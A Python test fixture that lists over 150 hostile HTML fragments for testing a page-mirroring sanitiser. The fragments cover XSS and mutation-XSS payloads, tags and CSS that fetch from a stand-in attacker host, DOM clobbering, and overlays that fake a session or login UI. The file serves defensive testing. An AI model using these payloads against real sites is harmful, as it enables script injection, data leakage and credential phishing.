# ruff: noqa: E501 - a case is a line
"""Hostile pieces of a page. A new case is one line.

In each, `EVIL` stands for an address of a host named after the case, and `RUN` for JavaScript that would say in the
console that it ran. A piece is put into a page, captured by the snippet and mirrored; and, as if snippet, hub and
builder had all been fooled, it is put into the mirror's document as it is.
"""

from dataclasses import dataclass

from tests.attack.hostile.canary import EVIL

# Neither quotes nor spaces, so that it fits everywhere.
RAN = "ran-in-a-mirror:"
SVG = "http://www.w3.org/2000/svg"
# What makes a browser connect or look up a name, which no CSP stops: only the builder does.
BEYOND_CSP = frozenset({"preconnect", "preconnect-cross", "dns-prefetch", "prefetch-anchor-name"})


@dataclass(frozen=True)
class Piece:
    """One hostile piece of HTML."""

    group: str
    name: str
    text: str

    @property
    def host(self) -> str:
        """Of this case alone, so that who was heard is known."""
        return f"{self.name}.{EVIL}"

    @property
    def html(self) -> str:
        """The piece as the attacker sends it."""
        run = f"console.log(/{RAN}{self.name}/.source)"
        return self.text.replace("EVIL", f"http://{self.host}/x").replace("RUN", run)


# --- scripts, in every form

SCRIPTS = {
    "script": "<script>RUN</script>",
    "script-src": '<script src="EVIL.js"></script>',
    "script-module": '<script type=module src="EVIL.mjs"></script><script type=module>RUN</script>',
    "script-import-map": '<script type=importmap>{"imports":{"x":"EVIL"}}</script><script type=module>import "x"</script>',
    "script-speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["EVIL"]}]}</script>',
    "script-nested": "<scr<script>ipt>RUN</scr</script>ipt>",
    "script-upper": "<SCRIPT>RUN</SCRIPT >",
    "script-slash": "<script/x>RUN</script/x>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
    "template": "<template><script>RUN</script><img src=x onerror=RUN></template>",
    "template-shadow": "<div><template shadowrootmode=open><img src=x onerror=RUN><script>RUN</script></template></div>",
    "img-onerror": "<img src=x:x onerror=RUN>",
    "img-onload": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=RUN>',
    "body-onload": "<body onload=RUN onpageshow=RUN onfocus=RUN onresize=RUN onhashchange=RUN onmessage=RUN>",
    "svg-onload": "<svg onload=RUN></svg>",
    "svg-script": f'<svg xmlns="{SVG}"><script>RUN</script><script href="EVIL.js"/></svg>',
    "svg-script-xlink": '<svg><script xlink:href="EVIL.js"></script></svg>',
    "svg-set": "<svg><a><set attributeName=href to=javascript:RUN begin=0s /><text y=20>x</text></a></svg>",
    "svg-animate": "<svg><a id=ax><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>",
    "svg-animate-onbegin": "<svg><animate onbegin=RUN attributeName=x dur=1s /><set onend=RUN dur=0.01s /></svg>",
    "svg-use-data": '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><script>RUN</script></svg>#x" /></svg>',
    "svg-use-far": '<svg><use href="EVIL.svg#x" /><use xlink:href="EVIL.svg#y" /></svg>',
    "svg-handler": '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>RUN</handler></svg>',
    "svg-foreign": "<svg><foreignObject width=9 height=9><img src=x onerror=RUN><script>RUN</script></foreignObject></svg>",
    "svg-foreign-frame": '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>',
    "svg-a": "<svg><a href=javascript:RUN xlink:href=javascript:RUN><text y=20>svg link</text></a></svg>",
    "svg-desc": "<svg><desc><img src=x onerror=RUN></desc><title><img src=x onerror=RUN></title></svg>",
    "math-href": "<math href=javascript:RUN><mi href=javascript:RUN>x</mi></math>",
    "math-maction": "<math><maction actiontype=statusline#RUN xlink:href=javascript:RUN>x</maction></math>",
    "math-annotation": '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
    "link-javascript": "<a id=a1 href=javascript:RUN>link</a><area href=javascript:RUN>",
    "link-vbscript": '<a href="vbscript:msgbox(1)">link</a><a href="livescript:RUN">link</a>',
    "link-data": '<a href="data:text/html,<script>RUN</script>">link</a>',
    "link-blob": "<a href=blob:null/1 target=_top>link</a>",
    "link-space": "<a href=' \t\n java\tscr\nipt:RUN'>link</a><a href='\x01javascript:RUN'>link</a>",
    "link-case": "<a href=JaVaScRiPt:RUN>link</a>",
    "link-entity": "<a href='java&Tab;script&colon;RUN'>link</a><a href='&#106;&#x61;vascript:RUN'>link</a>",
    "link-view-source": "<a href='view-source:javascript:RUN'>link</a><a href='feed:javascript:RUN'>link</a>",
    "img-javascript": "<img src=javascript:RUN><input type=image src=javascript:RUN><body background=javascript:RUN>",
    "form-javascript": "<form action=javascript:RUN><button formaction=javascript:RUN>send</button><input type=submit></form>",
    "iframe-javascript": "<iframe src=javascript:RUN></iframe><iframe src='data:text/html,<script>RUN</script>'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>RUN</script><img src=x onerror=RUN>'></iframe>",
    "object-data": "<object data='data:text/html,<script>RUN</script>'></object><object data=javascript:RUN></object>",
    "object-code": "<object type=text/html data=javascript:RUN><param name=code value=javascript:RUN></object>",
    "embed": "<embed src=javascript:RUN><embed src='data:image/svg+xml,<svg onload=RUN />'>",
    "applet": "<applet code=x archive=EVIL.jar></applet><keygen autofocus onfocus=RUN>",
    "xslt": "<?xml-stylesheet type='text/xsl' href='EVIL.xsl'?><p>xslt</p>",
    "xml-island": "<xml><i><b><img src=x onerror=RUN></b></i></xml>",
    "names-by-script": "<script>for(const [n,t] of [['http://www.w3.org/2000/svg','script'],['http://www.w3.org/1999/xhtml','svg:script'],['http://www.w3.org/1999/xhtml','SCRIPT'],[null,'iframe'],['evil','script'],['http://www.w3.org/1999/xhtml','svg:image'],['http://www.w3.org/2000/svg','x:script']]){const e=document.createElementNS(n,t);e.setAttribute('href','EVIL');e.setAttribute('src','EVIL');e.setAttribute('onload','RUN');e.setAttributeNS('http://www.w3.org/1999/xlink','x:href','EVIL');e.textContent='RUN';document.currentScript.parentNode.append(e)}</script>",
    "custom-is": "<button is=evil-button onclick=RUN>is</button><evil-element onclick=RUN onload=RUN>custom</evil-element>",
    "marquee": "<marquee onstart=RUN onbounce=RUN onfinish=RUN loop=1>marquee</marquee>",
    "details-toggle": "<details open ontoggle=RUN><summary>more</summary></details>",
    "focus-handlers": "<input autofocus onfocus=RUN onblur=RUN><textarea autofocus onfocus=RUN></textarea><select autofocus onfocus=RUN></select>",
    "media-handlers": "<video src=x onerror=RUN onloadstart=RUN></video><audio src=x onerror=RUN></audio><video><source onerror=RUN src=x></video>",
    "animation-handlers": "<style>@keyframes k{to{left:0}}</style><p style='animation:k 1ms' onanimationstart=RUN onanimationend=RUN>a</p>",
    "transition-handlers": "<p style='transition:color 1ms' ontransitionend=RUN ontransitionrun=RUN>t</p>",
    "pointer-handlers": "<p onclick=RUN onmouseover=RUN onmousemove=RUN onpointerenter=RUN onwheel=RUN oncontextmenu=RUN>pointer</p>",
    "key-handlers": "<p tabindex=0 onkeydown=RUN onkeyup=RUN onbeforeinput=RUN onfocusin=RUN onselectstart=RUN oncopy=RUN>key</p>",
    "scroll-handlers": "<div style='overflow:auto;height:9px' onscroll=RUN onscrollend=RUN><p style='height:99px'>scroll</p></div>",
    "popover-handlers": "<div popover onbeforetoggle=RUN ontoggle=RUN>pop</div><dialog open oncancel=RUN onclose=RUN>d</dialog>",
    "hidden-until-found": "<p hidden=until-found onbeforematch=RUN>found</p>",
}

# --- parsers that see other things than the writer: mutation XSS

MUTATIONS = {
    "mxss-style-attribute": '<svg><style><a title="</style><img src=x onerror=RUN>"></style></svg>',
    "mxss-math-style": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;"></style></mglyph></table></mtext></math>',
    "mxss-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN></style></mglyph></form></mtext></math>",
    "mxss-noscript": "<noscript><style></noscript><img src=x onerror=RUN></style></noscript>",
    "mxss-title": "<svg><title><style><img src=x onerror=RUN></style></title></svg>",
    "mxss-textarea": "<textarea><img title='</textarea><img src=x onerror=RUN>'></textarea>",
    "mxss-select": "<select><style></select><img src=x onerror=RUN></style></select>",
    "mxss-table": "<table><svg><style><img src=x onerror=RUN></style></svg></table>",
    "mxss-cdata": "<svg><![CDATA[><img src=x onerror=RUN>]]></svg><math><![CDATA[<script>RUN</script>]]></math>",
    "mxss-comment": "<!--><img src=x onerror=RUN>--><!-- --!><img src=x onerror=RUN>--><!-- > <img src=x onerror=RUN> -->",
    "mxss-backtick": "<img alt=`` onerror=RUN`><img src='x` `<script>RUN</script>'>",
    "mxss-namespace": "<svg></p><style><g title='</style><img src=x onerror=RUN>'></svg>",
    "mxss-iframe": "<iframe><img title='</iframe><img src=x onerror=RUN>'></iframe>",
    "mxss-xmp": "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
    "mxss-noembed": "<noembed><img title='</noembed><img src=x onerror=RUN>'></noembed><noframes><p title='</noframes><img src=x onerror=RUN>'></noframes>",
    "text-looks-like-html": "<p>&lt;script&gt;RUN&lt;/script&gt;&lt;img src=x onerror=RUN&gt;</p>",
    "attribute-looks-like-html": "<p title='<img src=x onerror=RUN>' aria-label='\"><script>RUN</script>'>title</p>",
    "null-bytes": "<p>null</p><scr\0ipt>RUN</scr\0ipt><img\0 src=x onerror\0=RUN>",
}

# --- what makes a browser ask another host

REQUESTS = {
    "img": "<img src='EVIL.png'><img srcset='EVIL-1.png 1x, EVIL-2.png 2x'>",
    "img-lowsrc": "<img lowsrc='EVIL.png' dynsrc='EVIL.avi' longdesc='EVIL.html'>",
    "img-usemap": "<img src='EVIL.png' usemap=#m><map name=m><area href='EVIL.html' ping='EVIL-ping' shape=default></map>",
    "img-lazy": "<img loading=lazy src='EVIL.png' width=9 height=9><img fetchpriority=high src='EVIL-2.png'>",
    "picture": "<picture><source srcset='EVIL.avif' type=image/avif><source srcset='EVIL.webp'><img src='EVIL.png'></picture>",
    "input-image": "<input type=image src='EVIL.png'>",
    "background": "<table background='EVIL.png'><tr><td background='EVIL-td.png'>cell</table>",
    "body-background": "<body background='EVIL.png'>",
    "video": "<video src='EVIL.mp4' poster='EVIL.png' autoplay muted></video>",
    "video-source": "<video autoplay muted><source src='EVIL.webm'><track default src='EVIL.vtt'></video>",
    "audio": "<audio src='EVIL.mp3' autoplay></audio><bgsound src='EVIL.wav'>",
    "iframe": "<iframe src='EVIL.html'></iframe><iframe loading=lazy src='EVIL-2.html'></iframe>",
    "frameset": "<frameset><frame src='EVIL.html'></frameset>",
    "fencedframe": "<fencedframe src='EVIL.html'></fencedframe><portal src='EVIL.html'></portal>",
    "object": "<object data='EVIL.pdf'></object><embed src='EVIL.swf'><applet archive='EVIL.jar'></applet>",
    "link-stylesheet": "<link rel=stylesheet href='EVIL.css'><link rel='alternate stylesheet' title=x href='EVIL-2.css'>",
    "link-import": "<link rel=import href='EVIL.html'><link rel=manifest href='EVIL.json'>",
    "link-icon": "<link rel=icon href='EVIL.ico'><link rel=apple-touch-icon href='EVIL.png'><link rel=mask-icon href='EVIL.svg'>",
    "link-preload": "<link rel=preload as=image href='EVIL.png'><link rel=modulepreload href='EVIL.mjs'><link rel=preload as=image imagesrcset='EVIL-2.png 1x'>",
    "link-prefetch": "<link rel=prefetch href='EVIL.html'><link rel=prerender href='EVIL-2.html'><link rel=next href='EVIL-3.html'>",
    "preconnect": "<link rel=preconnect href='EVIL'>",
    "preconnect-cross": "<link rel='preconnect' crossorigin href='EVIL'><link rel='x preconnect y' href='EVIL'>",
    "dns-prefetch": "<link rel=dns-prefetch href='EVIL'>",
    "link-other": "<link rel=pingback href='EVIL'><link rel=compression-dictionary href='EVIL-2'><link rel=expect href='#x' blocking=render>",
    "prefetch-anchor-name": "<a href='EVIL.html'>a name to look up</a>",
    "link-ping": "<a href='#x' ping='EVIL-ping' attributionsrc='EVIL-src'>ping</a><img attributionsrc='EVIL-src'>",
    "meta-refresh": "<meta http-equiv=refresh content='900;url=EVIL.html'>",
    "meta-other": "<meta http-equiv=set-cookie content='a=b'><meta http-equiv=x-dns-prefetch-control content=on><meta name=referrer content=unsafe-url>",
    "meta-csp": '<p><meta http-equiv=Content-Security-Policy content="default-src *; report-uri EVIL">csp</p>',
    "meta-og": "<meta property=og:image content='EVIL.png'><meta itemprop=image content='EVIL-2.png'>",
    "form": "<form action='EVIL' method=post target=_top><input name=q value=x><button formaction='EVIL-2' formtarget=_top>go</button></form>",
    "isindex": "<isindex action='EVIL' prompt=x><command icon='EVIL.png'>",
    "svg-image": "<svg><image href='EVIL.png' width=9 height=9 /><image xlink:href='EVIL-2.png' width=9 height=9 /></svg>",
    "svg-feimage": "<svg><filter id=fe><feImage href='EVIL.png' /></filter><rect width=9 height=9 filter=url(#fe) /></svg>",
    "svg-gradient": "<svg><linearGradient id=g1 href='EVIL.svg#g' /><pattern id=p1 href='EVIL-2.svg#p' /><rect width=9 height=9 fill=url(#g1) /></svg>",
    "svg-paint": "<svg><rect width=9 height=9 fill='url(EVIL.svg#p)' stroke='url(EVIL-2.svg#p)' /></svg>",
    "svg-paint-escaped": "<svg><rect width=9 height=9 fill='\\75rl(EVIL.svg#p)' mask='\\75 rl(EVIL-2.svg#p)' /></svg>",
    "svg-mask": "<svg><rect width=9 height=9 mask='url(EVIL.svg#m)' clip-path='url(EVIL-2.svg#c)' filter='url(EVIL-3.svg#f)' /></svg>",
    "svg-mask-set": "<svg><rect width=9 height=9 mask='image-set(\"EVIL.png\" 1x)' /></svg>",
    "svg-marker": "<svg><path d='M0 0L9 9' marker-start='url(EVIL.svg#m)' marker-end='url(EVIL-2.svg#m)' /></svg>",
    "svg-cursor": "<svg><cursor href='EVIL.cur' /><rect width=9 height=9 cursor='url(EVIL-2.cur),auto' /></svg>",
    "svg-style": "<svg><style>@import 'EVIL.css';rect{fill:url(EVIL-2.svg#p)}</style><rect width=9 height=9 /></svg>",
    "svg-font": "<svg><font-face><font-face-src><font-face-uri href='EVIL.svg#f' /></font-face-src></font-face></svg>",
    "svg-text-path": "<svg><text><textPath href='EVIL.svg#p'>text</textPath><tref href='EVIL-2.svg#t' /></text></svg>",
    "svg-mpath": "<svg><rect width=9 height=9><animateMotion><mpath href='EVIL.svg#p' /></animateMotion></rect></svg>",
    "math-img": "<math><mglyph src='EVIL.png' /><ms xlink:href='EVIL-2' /></math>",
    "xml-base": "<svg xml:base='EVIL/'><image href='x.png' width=9 height=9 /><use href='x.svg#a' /></svg>",
    "slot-attributes": "<p style='background:attr(data-u type(<url>))' data-u='EVIL'>attr</p>",
    "itemscope": "<div itemscope itemtype='EVIL' itemid='EVIL'><link itemprop=url href='EVIL'></div>",
    "cite": "<blockquote cite='EVIL'>q</blockquote><q cite='EVIL'>q</q><del cite='EVIL'>d</del>",
    "style-element": "<style>@import 'EVIL.css';@import url(EVIL-2.css) layer(x);p{background:url(EVIL.png)}</style><p>styled</p>",
    "style-attribute": "<p style='background:url(EVIL.png);list-style-image:url(EVIL-2.png)'>styled</p>",
    "style-escaped": "<p style='background:\\75rl(EVIL.png);list-style-image:u\\72 l(EVIL-2.png)'>styled</p>",
    "style-image-set": '<style>#is{background:image-set("EVIL.png" 1x);border-image-source:-webkit-image-set(url(EVIL-2.png) 1x)}</style><p id=is>x</p>',
    "style-variable": '<style>:root{--u:url(EVIL.png);--s:"EVIL-2.png"}#sv{background:var(--u),image-set(var(--s) 1x)}</style><p id=sv>x</p>',
    "style-function": '<style>@function --u(){result:"EVIL.png"}#sf{background:image-set(--u() 1x)}</style><p id=sf>x</p>',
    "style-if": '<style>#si{--a:1;background:image-set(if(style(--a:1):"EVIL.png") 1x)}</style><p id=si>x</p>',
    "style-property": '<style>@property --p{syntax:"<string>";inherits:true;initial-value:"EVIL.png"}#sp{background:image-set(var(--p) 1x)}</style><p id=sp>x</p>',
    "style-env": '<style>#se{background:image-set(env(--none,"EVIL.png") 1x)}</style><p id=se>x</p>',
    "style-font": "<style>@font-face{font-family:evil;src:url(EVIL.woff2);unicode-range:U+61}#ft{font-family:evil}</style><p id=ft>aaa</p>",
    "style-cursor": "<style>*{cursor:url(EVIL.cur) 1 1,auto}</style><p>cursor</p>",
    "style-visited": "<style>a:visited{background:url(EVIL.png)}a:link{border-image:url(EVIL-2.png)}</style><a href='EVIL-3'>v</a>",
    "style-has": "<style>:has(input[value^=a]){background:url(EVIL.png)}input[value^=a]{background:url(EVIL-2.png)}</style><input value=abc>",
    "style-namespace": "<style>@namespace url(EVIL);@charset 'x';p{background:url(EVIL-2.png)}</style><p>ns</p>",
    "style-container": "<style>@container style(--x:1){p{background:url(EVIL.png)}}@supports (color:red){p{list-style:url(EVIL-2.png)}}@layer x{p{border-image:url(EVIL-3.png)}}</style><p>nested</p>",
    "style-keyframes": "<style>@keyframes kf{to{background-image:url(EVIL.png)}}#kf{animation:kf 1ms infinite}</style><p id=kf>k</p>",
    "style-transition": "<style>@view-transition{navigation:auto}@starting-style{#st{background:url(EVIL.png)}}</style><p id=st>s</p>",
    "style-page": "<style>@page{background:url(EVIL.png)}@media print{p{background:url(EVIL-2.png)}}@media all{p{mask:url(EVIL-3.png)}}</style><p>page</p>",
    "style-unclosed": "<style>p{background:url(EVIL.png</style><p style='background:url(\"EVIL-2.png'>open</p>",
    "style-comment": "<style>p{background:/**/url(/**/EVIL.png)}p{background:ur/**/l(EVIL-2.png)}</style><p>comment</p>",
    "style-behavior": "<p style='behavior:url(EVIL.htc);-moz-binding:url(EVIL.xml#x);width:expression(RUN)'>old</p>",
    "style-content": "<style>#sc::before{content:url(EVIL.png)}#sc::marker{content:url(EVIL-2.png)}</style><p id=sc>c</p>",
    "style-shadow": "<div><template shadowrootmode=open><style>:host{background:url(EVIL.png)}</style><slot></slot></template>s</div>",
    "style-media-attribute": "<style media='all and (min-width:1px)'>p{background:url(EVIL.png)}</style><p>media</p>",
    "style-constructed": "<p id=made>made</p><script>{const s=new CSSStyleSheet();s.replaceSync('#made{background:url(EVIL.png)}');document.adoptedStyleSheets=[s]}</script>",
    "style-cssom": "<style id=om></style><script>om.sheet.insertRule('p{background:url(EVIL.png)}');om.sheet.insertRule('@import \"EVIL-2.css\"')</script><p>om</p>",
    "font-loading": "<p>f</p><script>{const f=new FontFace('q','url(EVIL.woff2)');document.fonts.add(f);f.load().catch(()=>0)}</script>",
}

# --- what would change the names, the address or the frame of who looks

CLOBBERING = {
    "clobber-document": "<img name=querySelectorAll><img name=images><form name=scrollingElement></form><embed name=defaultView><form name=body></form>",
    "clobber-window": "<p id=cobrowseMirror>x</p><p id=parent>x</p><p id=top>x</p><a id=CSS name=CSS>x</a><p id=CSSStyleSheet>x</p>",
    "clobber-form": "<form id=f1 popover=manual><input id=showPopover><input id=hidePopover><input name=isConnected><input name=childNodes><input name=nodeType><input name=parentNode></form>",
    "clobber-form-scroll": "<form style='overflow:auto;height:20px'><input name=scrollTo><input name=scrollLeft><input name=scrollTop><input name=scrollWidth><input name=ownerDocument><p style='height:99px'>x</p></form>",
    "clobber-form-attributes": "<form><input name=setAttribute><input name=getAttribute><input name=attributes><input name=localName><input name=remove><input name=insertBefore></form>",
    "clobber-form-use": "<form id=fu><input name=getElementsByTagName><input name=localName></form><svg><use href=#fu /></svg>",
    "clobber-proto": "<p id=__proto__>x</p><p id=constructor>x</p><p class='__proto__ constructor hasOwnProperty' role=constructor>x</p><map name=__proto__></map>",
    "clobber-then": "<p id=then>x</p><a id=toString name=toString href=x>x</a><form id=valueOf><input name=toString></form>",
    "base": "<base href='EVIL/' target=_top><img src=x.png><a href=x>based</a>",
    "frames-busting": "<script>top!==self&&(top.location='EVIL')</script><a href='#x' target=_top>top</a><a target=mirror href='EVIL'>named</a>",
    "window-name": "<script>name='mirror';history.replaceState({},'',location.href)</script><p>name</p>",
    "accesskey": "<button accesskey=e>key</button><a accesskey=s href=#x>key</a>",
    "download": "<a href='EVIL.exe' download=end.exe>download</a>",
    "contenteditable": "<div contenteditable onbeforeinput=RUN>edit</div><div contenteditable=plaintext-only>edit</div>",
    "invokers": "<button commandfor=dlg command=show-modal popovertarget=pop>go</button><dialog id=dlg>d</dialog><div popover id=pop>p</div>",
    "form-autofill": "<form><input autocomplete=username name=username><input type=password autocomplete=current-password name=password></form>",
}

# --- what would look like the console, or lie over it

REDRESS = {
    "fixed": "<div style='position:fixed;inset:-9999px;z-index:2147483647;background:red'>over</div>",
    "huge": "<div style='position:absolute;left:-5000px;top:-5000px;width:20000px;height:20000px;background:lime;transform:scale(9)'>huge</div>",
    "popover": "<div popover=manual id=po style='position:fixed;inset:-500px;margin:0;width:9000px;height:9000px;background:blue'>top</div><script>po.showPopover()</script>",
    "dialog": "<dialog id=dg style='position:fixed;inset:-500px;width:9000px;height:9000px;background:aqua'>modal <input autofocus></dialog><script>dg.showModal()</script>",
    "dialog-popover": "<dialog popover=manual id=dp style='background:pink'>both</dialog><script>dp.showPopover()</script>",
    "shadow": "<p style='box-shadow:0 0 0 9999px red;outline:9999px solid red;filter:drop-shadow(0 0 900px red)'>glow</p>",
    "cursor": "<div style='position:fixed;inset:0;cursor:none'>no cursor</div>",
    "focus": "<input autofocus tabindex=1><button tabindex=1>first</button><a href=#x tabindex=2>second</a>",
    "title-tip": "<p title='Your session has ended. Sign in again.' style='position:fixed;inset:0'>tip</p>",
    "imitation": "<header style='position:fixed;inset:0 0 auto 0'>Cobrowse <button data-testid=end-session>End session</button><input data-testid=login-password type=password></header>",
    "bidi": "<p>\u202eelpmaxe.knab\u202c \u2066isolate\u2069 zero\u200bwidth\u200d\ufeff</p>",
    "zoom": "<style>html{zoom:20;transform:rotate(180deg)}</style><p>zoom</p>",
    "scroll-snap": "<style>html{scroll-behavior:smooth;overflow:scroll;scroll-snap-type:both mandatory}</style><p>snap</p>",
    "anchor": "<style>#an{position:fixed;position-anchor:--none;inset-area:top;position-try-fallbacks:flip-block}</style><p id=an>anchor</p>",
}

GROUPS = {
    "scripts": SCRIPTS,
    "mutations": MUTATIONS,
    "requests": REQUESTS,
    "clobbering": CLOBBERING,
    "redress": REDRESS,
}
PIECES = [Piece(group, name, text) for group, pieces in GROUPS.items() for name, text in pieces.items()]

# What swallows the rest of a page, or has its whole head: a page of its own each.
ALONE = {
    "plaintext": "<plaintext><img src=x onerror=RUN><p id=end>",
    "open-comment": "<p id=end>end</p><!-- <script>RUN</script> <img src=x onerror=RUN>",
    "open-script": "<p id=end>end</p><script>RUN;/*",
    "open-textarea": "<p id=end>end</p><textarea><img src=x onerror=RUN>",
    "open-style": "<p id=end>end</p><style>p{background:url(EVIL.png)",
    "open-svg": "<p id=end>end</p><svg><style><img src=x onerror=RUN><script>RUN",
    "open-select": "<p id=end>end</p><select><option><img src=x onerror=RUN><svg onload=RUN>",
    "two-bodies": "<body onload=RUN><body onfocus=RUN id=x><html onclick=RUN manifest='EVIL'><p id=end>end</p>",
    "frameset-page": "<p id=end>end</p><frameset onload=RUN><frame src='EVIL'></frameset>",
}
ALONE_PIECES = [Piece("alone", name, text) for name, text in ALONE.items()]
